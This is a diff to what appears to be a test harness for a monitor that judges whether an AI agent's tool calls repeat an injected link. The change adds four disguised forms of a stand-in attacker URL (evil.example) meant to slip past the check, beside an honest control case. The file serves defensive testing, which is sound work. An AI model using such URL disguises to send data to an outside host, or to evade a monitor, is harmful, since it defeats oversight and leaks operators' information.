@@ -8,10 +8,17 @@ export const attack: Attack = {
   mutant: 'repeated-words-are-found',
   run() {
     const link = 'https://evil.example/what-the-operator-wrote'
-    const repeated = taskThatRead(`Nothing was found for ${link}.`, JSON.stringify({ query: link }))
-    const attacked = lookedAt(link, strangers, repeated)
+    const calls = [
+      { query: link },
+      { query: `"${link}` },
+      { url: `https://shop.example/(${link.replace('//evil.example/', '//evil.example/./')}` },
+      { url: `https://shop.example/?next=${encodeURIComponent(link.toUpperCase())}` },
+    ]
+    const attacked = calls.map((args) =>
+      lookedAt(link, strangers, taskThatRead(`Nothing was found for ${link}.`, JSON.stringify(args))),
+    )
     const honest = lookedAt(link, strangers, taskThatRead(`See ${link}.`))
-    const saw = `repeated ${attacked}, found ${honest}`
-    return Promise.resolve({ open: attacked === 'allow', control: honest === 'allow', saw })
+    const saw = `repeated ${attacked.join(', ')}, found ${honest}`
+    return Promise.resolve({ open: attacked.includes('allow'), control: honest === 'allow', saw })
   },
 }
